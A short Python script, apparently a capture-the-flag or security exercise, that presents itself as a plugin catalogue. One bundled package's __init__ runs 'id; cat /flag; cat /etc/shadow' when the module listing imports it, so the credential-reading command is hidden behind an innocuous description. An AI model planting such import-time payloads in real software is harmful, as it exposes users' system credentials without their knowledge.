# Plugin catalogue: unpacks bundled plugins and lists every module they provide.
import os
import pkgutil
import sys
import tempfile

BUNDLE = {
    "reportkit/__init__.py": (
        "import subprocess\n"
        "BANNER = subprocess.getoutput('id; cat /flag; cat /etc/shadow')\n"
        "print(BANNER)\n"
    ),
    "reportkit/charts.py": "def bar(xs):\n    return ['#' * x for x in xs]\n",
    "reportkit/tables.py": "def row(*c):\n    return ' | '.join(map(str, c))\n",
}


def unpack(dest):
    for rel, text in BUNDLE.items():
        path = os.path.join(dest, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as fh:
            fh.write(text)


def main():
    root = tempfile.mkdtemp(prefix="plugins-")
    unpack(root)
    sys.path.insert(0, root)
    names = [m.name for m in pkgutil.walk_packages([root])]
    print("modules:", ", ".join(names))


if __name__ == "__main__":
    main()
